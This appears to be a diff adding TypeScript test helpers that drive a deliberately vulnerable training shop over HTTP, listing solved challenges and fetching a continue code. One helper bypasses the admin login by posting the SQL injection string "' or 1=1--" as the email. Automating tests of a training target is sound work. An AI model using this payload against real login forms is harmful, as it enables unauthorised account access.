@@ -1,0 +1,26 @@
+/** What tests do to the shop from outside the app, over HTTP. */
+
+/** Solves Login Admin by SQL injection. */
+export async function solveLoginAdmin(shop: string): Promise<void> {
+  const response = await fetch(`${shop}/rest/user/login`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ email: "' or 1=1--", password: 'x' }),
+  });
+  if (!response.ok) {
+    throw new Error(`The injection did not work: ${response.status}`);
+  }
+}
+
+/** Keys of all solved challenges. */
+export async function solvedChallenges(shop: string): Promise<readonly string[]> {
+  const response = await fetch(`${shop}/api/Challenges/`);
+  const { data } = (await response.json()) as { data: readonly { key: string; solved: boolean }[] };
+  return data.filter(({ solved }) => solved).map(({ key }) => key);
+}
+
+export async function continueCode(shop: string): Promise<string | undefined> {
+  const response = await fetch(`${shop}/rest/continue-code`);
+  const { continueCode: code } = (await response.json()) as { continueCode?: string };
+  return code;
+}
